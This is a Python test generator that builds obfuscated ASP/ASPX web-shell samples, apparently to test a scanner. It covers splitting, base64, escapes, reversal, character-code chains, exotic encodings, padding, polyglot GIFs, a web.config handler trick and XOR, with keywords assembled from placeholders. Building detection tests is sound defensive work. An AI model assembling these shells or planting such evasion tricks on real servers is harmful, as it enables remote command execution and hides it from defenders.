"""Hiding tricks, each on inert pieces: name -> (path, bytes made by the test).

As in ``pieces``, words are put together in memory only.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator

from page_pieces import CS, JS, VB, build, word


def _b64(text: str) -> str:
    return base64.b64encode(build(text).encode()).decode()


def _codes(text: str) -> str:
    return ",".join(str(ord(c)) for c in build(text))


def _vb_chain(text: str) -> str:
    return "&".join(f"Chr({ord(c)})" for c in build(text))


def _escaped(mark: str) -> str:
    text = word(mark)
    return f"\\u{ord(text[0]):04x}" + text[1:]


def tricks() -> Iterator[tuple[str, str, bytes]]:
    """Yield trick, path, bytes; at least two for each."""

    def made(name: str, path: str, text: str, codec: str = "utf-8") -> tuple[str, str, bytes]:
        return name, path, build(text).encode(codec)

    half = word("«E»")[:2]
    rest = word("«E»")[2:]
    yield made(
        "splitting",
        "a.aspx",
        JS + f'<%var a="{half}"+"{rest}"; this[a](«R».Item["k"],"un"+"safe");%>',
    )
    yield made(
        "splitting",
        "a.aspx",
        CS
        + '<% var t = Type.GetType("System.Diag" + "nostics.Pro" + "cess"); t.GetMethod("St" + "art", new Type[]{typeof(string)}).Invoke(null, new object[] { «R»["a"] }); %>',
    )
    yield made(
        "splitting",
        "a.asp",
        '<%\nDim a\na = "W" & "Script"\na = a & ".Sh" & "ell"\nSet w = «C»(a)\nw.Run «R»("q"), 0\n%>',
    )
    yield made(
        "splitting",
        "a.aspx",
        CS + '<% string a = "cmd"; a += ".e"; a += "xe"; «P».Start(a, "/c " + «R»["x"]); %>',
    )
    yield made(
        "base64",
        "a.aspx",
        JS
        + f'<%«E»(System.Text.Encoding.UTF8.GetString(System.Convert.«B»("{_b64("«E»(«R».Item[1])")}")),"«U»");%>',
    )
    yield made(
        "base64",
        "a.aspx",
        CS
        + f'<% var n = Encoding.ASCII.GetString(Convert.«B»("{_b64("System.Diagnostics.«P»")}")); Type.GetType(n).InvokeMember(Encoding.ASCII.GetString(Convert.«B»("{_b64("Start")}")), BindingFlags.InvokeMethod, null, null, new object[] {{ «R»["q"] }}); %>',
    )
    yield made(
        "escapes", "a.aspx", JS + f'<%{_escaped("«E»")}({_escaped("«R»")}.Item["k"],"«U»");%>'
    )
    yield made(
        "escapes",
        "a.aspx",
        CS + f'<% System.Diagnostics.{_escaped("«P»")}.St\\u0061rt({_escaped("«R»")}["q"]); %>',
    )
    yield made("escapes", "a.aspx", JS + '<%this["\\x65\\x76\\x61\\x6c"](«R»["k"]);%>')
    yield made(
        "reversal",
        "a.asp",
        f'<%\nDim a\na = StrReverse("{word("«S»")[::-1]}")\nSet w = Server.«C»(a)\nw.Run «R»("q")\n%>',
    )
    yield made(
        "reversal",
        "a.aspx",
        CS
        + f'<% char[] c = "{build("System.Diagnostics.«P»")[::-1]}".ToCharArray(); Array.Reverse(c); Type.GetType(new string(c)).GetMethod("Start").Invoke(null, new object[] {{ «R»["q"] }}); %>',
    )
    yield made(
        "chr chains",
        "a.asp",
        f"<%\n«X» {_vb_chain('«X» «R»(')} & {_vb_chain(chr(34) + 'k' + chr(34) + ')')}\n%>",
    )
    yield made(
        "chr chains", "a.aspx", JS + f'<%this[String.fromCharCode({_codes("«E»")})](«R»["k"]);%>'
    )
    yield made(
        "chr chains",
        "a.aspx",
        CS
        + "<% string t = new string(new char[] { "
        + ",".join(f"(char){ord(c)}" for c in build("System.Reflection.«A»"))
        + ' }); Type.GetType(t).GetMethod("«L»", new Type[]{typeof(byte[])}).Invoke(null, new object[] { «R».BinaryRead(9) }); %>',
    )
    yield made(
        "comments", "a.aspx", JS + '<%/*a*/«E»/*b*/(/*c*/«R»/*d*/./*e*/Item/*f*/["k"],"«U»");%>'
    )
    yield made(
        "comments",
        "a.aspx",
        CS + '<% System./**/Diagnostics/*x*/./*y*/«P»./*z*/Start(«R»/**/["q"]); // «E» \n %>',
    )
    yield made(
        "comments",
        "a.aspx",
        VB + '<%\nDim p = System.Diagnostics. _\n  «P». _\n  Start(«R» _\n ("q"))\n%>',
    )
    shell = CS + '<% «P».Start(«R»["q"]); %>'
    for codec in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be", "utf-8-sig", "cp037"):
        yield made("encodings", "a.aspx", shell, codec)
    yield (
        "encodings",
        "a.asp",
        b"<%@codepage=65000%>"
        + build('<%«E» «R»("k")%>')
        .encode("utf-7")
        .replace(b"<%", b"+ADwAJQ-")
        .replace(b"%>", b"+ACUAPg-"),
    )
    yield "encodings", "a.aspx", b"+/v8-" + build(shell).encode("utf-7")
    yield (
        "encodings",
        "a.aspx",
        "\0".join(build(shell)[i : i + 7] for i in range(0, len(shell), 7)).encode(),
    )
    yield (
        "encodings",
        "a.aspx",
        build(shell.replace("«R»", word("«R»")[:3] + "\u200b" + word("«R»")[3:])).encode(),
    )
    yield made("padding", "a.aspx", "\r\n" * 40_000 + " " * 50_000 + shell)
    yield made(
        "padding",
        "a.aspx",
        "<%-- "
        + "x" * 3_000_000
        + " --%>"
        + CS
        + "<% /*"
        + "y" * 100_000
        + '*/ «P».Start(«R»["q"]); %>',
    )
    yield made(
        "padding", "a.aspx", CS + '<% string j = "' + "z" * 200_000 + '"; «P».Start(«R»["q"]); %>'
    )
    yield made("includes", "a.asp", '<!--#include file="logo.gif"--><p>hello</p>')
    yield made("includes", "a.aspx", CS + '<!-- #include virtual = "/aspnet_client/x.jpg" -->')
    yield made("mislabelled", "a.jpg", shell)
    yield made("mislabelled", "a.txt", JS + '<%«E»(«R»["k"],"«U»");%>')
    yield "mislabelled", "a.gif", b"GIF89a\x01\0\x01\0" + build(shell).encode()
    yield made(
        "mislabelled",
        "web.config",
        '<?xml version="1.0"?><configuration><system.webServer><handlers><add name="x" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" /></handlers></system.webServer></configuration><!-- <%«X» «R»("k")%> -->',
    )
    yield (
        "mailbox",
        "a.aspx",
        b"!BDN"
        + bytes(range(256)) * 40
        + build(JS + '<%«E»(«R»["k"],"«U»");%>').encode()
        + bytes(range(256)) * 40,
    )
    yield (
        "mailbox",
        "a.aspx",
        b"\x30\x82\x04\x10"
        + bytes(range(256))
        + build(
            '<script language="«J»" runat=server>function Page_Load(){«E»(«R»["k"],"«U»");}</script>'
        ).encode()
        + bytes(200),
    )
    yield made(
        "replacing", "a.aspx", JS + f'<%var a="{half}-{rest}".Replace("-",""); this[a](«R»["k"]);%>'
    )
    yield made(
        "replacing",
        "a.asp",
        f'<%\n«X»(Replace("{word("«X»")[:3]}#{word("«X»")[3:]} «R»(""k"")", "#", ""))\n%>',
    )
    yield made(
        "replacing", "a.aspx", JS + f'<%var a=["{half}","{rest}"].join(""); this[a](«R»["k"]);%>'
    )
    raw = bytes(b ^ 23 for b in build("«E»(«R».Item['k'])").encode())
    yield made(
        "xor",
        "a.aspx",
        JS
        + f'<%var b=System.Convert.«B»("{base64.b64encode(raw).decode()}"); for(var i=0;i<b.length;i++) b[i]=b[i]^23; «E»(System.Text.Encoding.ASCII.GetString(b),"«U»");%>',
    )
